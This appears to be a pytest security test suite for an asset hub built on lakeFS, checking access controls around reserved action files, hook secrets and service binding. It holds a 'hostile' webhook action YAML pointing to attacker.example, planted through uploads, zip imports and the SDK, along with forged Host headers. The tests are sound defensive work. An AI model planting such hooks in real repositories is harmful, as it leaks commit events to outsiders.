"""Follows' lakeFS actions and served models, attacked by callers who are not admins.

Real lakeFS (with the hook's secret in its environment only), the real server, plain HTTP and
the SDK. The dataset's action file holds no secret and nobody reaches ``_lakefs_actions/``
through the API; installing the action needs ``edit`` on the dataset; the hook's URL is the
server's setting; services listen on loopback only.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from assethub import errors
from assethub.client import Client
from assethub.follows import ACTION_NAME, ACTIONS_FILE, HOOK_PATH
from assethub.storage import AddFile
from assethub.triggers import HOOK_HEADER
from tests._wait import wait_for
from tests.integration._api import Api, fresh, message, zip_bytes

pytestmark = [pytest.mark.integration, pytest.mark.attacks]

REPO = "https://example.org/ml/digits.git"
RESERVED = "'_lakefs_actions/' is reserved"


class World:
    """An owner's dataset and model; a viewer, an editor and a run-only user of the dataset."""

    def __init__(self, hub_server: Any) -> None:
        self.server = hub_server
        self.api = api = Api(hub_server.url, hub_server.admin_token)
        self.owner = api.add_user("owner")
        for who in ("viewer", "editor", "runner"):
            api.add_user(who)
        o = self.owner
        self.dfolder, self.mfolder = f"{o}/dataset/{fresh('d')}", f"{o}/model/{fresh('m')}"
        for folder in (self.dfolder, self.mfolder):
            api.ok("owner", "POST", "/folders", json={"path": folder})
        for who, role in (("viewer", "view"), ("editor", "edit"), ("runner", "run")):
            api.ok("owner", "POST", f"/folders/{self.dfolder}/shares",
                   json={"subject_type": "user", "subject_name": api.names[who], "role": role})
        # the runner trains into a model of their own
        self.rfolder = f"{api.names['runner']}/model/{fresh('r')}"
        api.ok("runner", "POST", "/folders", json={"path": self.rfolder})
        self.secret = hub_server.hub.lakefs_hook.secret
        assert self.secret, "the test server has the hook secret that lakeFS holds"
        self.seen: list[str] = []  # every response body of the attacks: the secret is in none

    def dataset(self) -> str:
        path = f"{self.dfolder}/{fresh('data')}"
        self.api.ok("owner", "POST", "/assets", json={"path": path})
        self.api.commit("owner", path, {"cat/1.txt": b"meow", "dog/1.txt": b"woof"})
        return path

    def model(self, folder: str | None = None, who: str = "owner") -> str:
        path = f"{folder or self.mfolder}/{fresh('net')}"
        self.api.ok(who, "POST", "/assets", json={"path": path})
        return path

    def call(self, who: str, method: str, url: str, **kw: Any) -> httpx.Response:
        r = self.api.call(who, method, url, **kw)
        self.seen.append(r.text)
        return r

    def client(self, who: str, tmp: Path) -> Client:
        return Client(self.server.url, self.api.tokens[who], cache_dir=tmp / f"cache-{who}")

    def action(self, dataset: str) -> str | None:
        """The action file as lakeFS has it (read past the API, as the server itself does)."""
        return self.server.hub.storage.read_action(f"{dataset}:main", ACTION_NAME)


@pytest.fixture(scope="module")
def world(hub_server: Any) -> World:
    return World(hub_server)


def _follow(w: World, who: str, model: str, dataset: str, **headers: str) -> httpx.Response:
    return w.call(who, "POST", "/follows", headers=headers,
                  json={"model": model, "dataset": dataset, "settings": {"repo": REPO}})


def _hook_runs(w: World, dataset: str, commit: str) -> list[Any]:
    storage = w.server.hub.storage
    runs = storage.lakefs.api.actions_api.list_repository_runs(storage.repository(dataset), commit=commit)
    return [r for r in runs.results if r.status in ("completed", "failed")]


def test_the_action_holds_no_secret_and_lakefs_presents_it_from_its_environment(world: World) -> None:
    w = world
    dataset, model = w.dataset(), w.model()
    r = _follow(w, "owner", model, dataset)
    assert r.status_code == 201 and r.json()["triggers"]["lakefs_action"] == "installed", r.text
    text = w.action(dataset)
    assert text is not None and w.secret not in text
    hook = yaml.safe_load(text)["hooks"][0]["properties"]
    assert hook["url"] == w.server.hub.lakefs_hook.base_url + HOOK_PATH
    assert hook["headers"] == {HOOK_HEADER: "{{ ENV.LAKEFSACTION_ASSETHUB_HOOK_SECRET }}"}
    # new data on main: lakeFS runs the action, and the hook accepts the secret lakeFS sent
    commit = w.api.commit("owner", dataset, {"cat/2.txt": b"purr"})["id"]
    runs = wait_for("lakeFS to run the dataset's action", lambda: _hook_runs(w, dataset, commit),
                    timeout=60, every=0.2)
    assert [r.status for r in runs] == ["completed"], "the hook answered 2xx to lakeFS's call"
    storage = w.server.hub.storage
    api, repo = storage.lakefs.api.actions_api, storage.repository(dataset)
    hooks = api.list_run_hooks(repo, runs[0].run_id).results
    output = bytes(api.get_run_hook_output(repo, runs[0].run_id, hooks[0].hook_run_id)).decode()
    assert HOOK_HEADER in output and w.secret not in output  # lakeFS masks values from ENV
    # a caller without the secret, or with the old query parameter, is refused
    body = {"event_type": "post-commit", "repository_id": repo, "branch_id": "main", "commit_id": commit}
    for kw in ({}, {"params": {"secret": w.secret}}, {"headers": {HOOK_HEADER: "guess"}}):
        refused = httpx.post(f"{w.server.url}{HOOK_PATH}", json=body, **kw)  # type: ignore[arg-type]
        assert refused.status_code == 401 and HOOK_HEADER in message(refused)


def test_a_viewer_cannot_reach_the_action_file(world: World, tmp_path: Path) -> None:
    w = world
    dataset, model = w.dataset(), w.model()
    first = w.api.admin("GET", f"/assets/{dataset}/commit")["id"]
    assert _follow(w, "owner", model, dataset).status_code == 201
    a = f"/assets/{dataset}"
    # listings and diffs skip it; asking for it by name is refused, naming the prefix
    files = w.call("viewer", "GET", f"{a}/objects").json()
    assert files and not [f for f in files if f["path"].startswith("_lakefs")]
    assert not [f for f in w.call("viewer", "GET", f"{a}/objects", params={"prefix": "_lake"}).json()]
    diff = w.call("viewer", "GET", f"{a}/diff", params={"left": first, "right": "main"}).json()
    assert diff == [], "the follow's commit changed nothing a user can see"
    for method, url, kw in (
            ("GET", f"{a}/objects", {"params": {"prefix": "_lakefs_actions/"}}),
            ("GET", f"{a}/stat", {"params": {"file": ACTIONS_FILE}}),
            ("GET", f"{a}/files/{ACTIONS_FILE}", {}),
            ("GET", f"{a}/files/{ACTIONS_FILE}", {"headers": {"Range": "bytes=0-10"}}),
            ("POST", f"{a}/bundle", {"json": {"ref": "main", "paths": ["cat/1.txt", ACTIONS_FILE]}}),
            ("GET", f"{a}/log", {"params": {"file": ACTIONS_FILE}}),
            ("GET", f"{a}/diff", {"params": {"left": first, "right": "main", "prefix": "_lakefs_actions"}})):
        r = w.call("viewer", method, url, **kw)
        assert r.status_code == 409 and RESERVED in message(r), (method, url, r.status_code, r.text)
    # the admin is refused the same way
    r = w.call("admin", "GET", f"{a}/files/{ACTIONS_FILE}")
    assert r.status_code == 409 and RESERVED in message(r)
    # through the SDK: a download of the dataset leaves the action out; of its folder, refused
    viewer = w.client("viewer", tmp_path)
    viewer.download(f"{dataset}:main", tmp_path / "all")
    assert sorted(p.name for p in (tmp_path / "all").iterdir()) == ["cat", "dog"]
    with pytest.raises(errors.NotAllowedError, match=RESERVED):
        viewer.download(f"{dataset}:main", tmp_path / "a", prefix="_lakefs_actions/")
    # and the follow itself, seen by anyone, carries no secret
    w.call("owner", "GET", "/follows", params={"dataset": dataset})
    w.call("viewer", "GET", f"{a}/log")
    assert not [t for t in w.seen if w.secret in t]


def test_an_editor_cannot_write_under_the_reserved_prefix(world: World, tmp_path: Path) -> None:
    w = world
    dataset, model = w.dataset(), w.model()
    assert _follow(w, "owner", model, dataset).status_code == 201
    before, action = w.api.state(dataset), w.action(dataset)
    hostile = b"name: x\non:\n  post-commit: {}\nhooks:\n  - id: x\n    type: webhook\n" \
              b"    properties: {url: 'http://attacker.example/'}\n"
    # a streamed upload: refused at the file, and the upload commits nothing
    up = w.call("editor", "POST", f"/assets/{dataset}/uploads", json={"branch": "main"}).json()
    for path in ("_lakefs_actions/x.yaml", ACTIONS_FILE):
        r = w.call("editor", "PUT", f"/uploads/{up['upload_id']}/files/{path}", content=hostile)
        assert r.status_code == 409 and RESERVED in message(r), r.text
    # deleting (or replacing) the server's own action in a commit: refused
    r = w.call("editor", "POST", f"/uploads/{up['upload_id']}/commit",
               json={"message": "m", "delete": [ACTIONS_FILE]})
    assert r.status_code == 409 and RESERVED in message(r), r.text
    # a zip import, also with the prefix inside a top folder that the import strips
    for entries in ({"cat/1.txt": b"a", "dog/1.txt": b"b", "_lakefs_actions/x.yaml": hostile},
                    {"top/_lakefs_actions/x.yaml": hostile}):
        r = w.call("editor", "POST", f"/assets/{dataset}/import", content=zip_bytes(entries),
                   headers={"Content-Type": "application/zip"})
        assert r.status_code == 409 and RESERVED in message(r), r.text
    # the SDK's commit and upload
    editor = w.client("editor", tmp_path)
    local = tmp_path / "x.yaml"
    local.write_bytes(hostile)
    with pytest.raises(errors.NotAllowedError, match=RESERVED):
        editor.create_commit(f"{dataset}:main", [AddFile(local, "_lakefs_actions/x.yaml")], message="m")
    with pytest.raises(errors.NotAllowedError, match=RESERVED):
        editor.upload(f"{dataset}:main", local, path="_lakefs_actions/y.yaml")
    assert w.api.state(dataset) == before and w.action(dataset) == action
    # a model branch holding an action (only the server could put one there) does not merge
    owner_model = w.model()
    w.api.commit("owner", owner_model, {"model.pt": b"w"})
    w.api.ok("owner", "POST", f"/assets/{owner_model}/branches", json={"name": "exp", "source": "main"})
    planted = "name: planted\non:\n  post-create-tag: {}\nhooks:\n  - id: planted\n    type: webhook\n" \
              "    properties: {url: 'http://127.0.0.1:9/'}\n"  # valid, and never fired here
    w.server.hub.storage.install_action(f"{owner_model}:exp", "x.yaml", planted, message="planted")
    r = w.call("owner", "POST", f"/assets/{owner_model}/merge", json={"source": "exp"})
    assert r.status_code == 409 and RESERVED in message(r), r.text
    assert w.server.hub.storage.read_action(f"{owner_model}:main", "x.yaml") is None


def test_a_run_only_user_cannot_make_a_follow_commit_into_the_dataset(world: World) -> None:
    w = world
    dataset = w.dataset()
    mine = w.model(w.rfolder, who="runner")
    head = w.api.admin("GET", f"/assets/{dataset}/commit")["id"]
    r = _follow(w, "runner", mine, dataset)
    assert r.status_code == 403, r.text
    assert w.owner in message(r) and "'edit'" in message(r)
    assert r.json()["error"]["needed"] == "edit"
    assert w.api.admin("GET", f"/assets/{dataset}/commit")["id"] == head and w.action(dataset) is None
    assert w.api.admin("GET", "/follows", params={"model": mine}) == []
    # once the owner has agreed (by following it), run is enough, and nothing more is committed
    assert _follow(w, "owner", w.model(), dataset).json()["triggers"]["lakefs_action"] == "installed"
    head = w.api.admin("GET", f"/assets/{dataset}/commit")["id"]
    r = _follow(w, "runner", mine, dataset)
    assert r.status_code == 201 and r.json()["triggers"]["lakefs_action"] == "present", r.text
    assert w.api.admin("GET", f"/assets/{dataset}/commit")["id"] == head


def test_a_forged_host_header_does_not_change_the_hook_url(world: World) -> None:
    w = world
    dataset, model = w.dataset(), w.model()
    r = _follow(w, "owner", model, dataset, host="attacker.example:8080",
                **{"X-Forwarded-Host": "attacker.example", "X-Forwarded-Proto": "https"})
    assert r.status_code == 201, r.text
    text = w.action(dataset)
    assert text is not None and "attacker" not in text
    assert yaml.safe_load(text)["hooks"][0]["properties"]["url"] == \
        w.server.hub.lakefs_hook.base_url + HOOK_PATH == f"{w.server.url}{HOOK_PATH}"


def test_a_service_may_not_listen_beyond_loopback(world: World) -> None:
    w = world
    model = w.model()
    w.api.commit("owner", model, {"model.pt": b"w"})
    for host in ("0.0.0.0", "::", "192.0.2.1"):
        r = w.call("owner", "POST", "/services",
                   json={"name": fresh("svc"), "model": f"{model}:main", "host": host})
        assert r.status_code == 409 and "loopback only" in message(r), r.text
        assert "ASSETHUB_SERVICE_HOSTS" in message(r)
    assert not [s for s in w.api.admin("GET", "/services") if s["model"].startswith(model)]
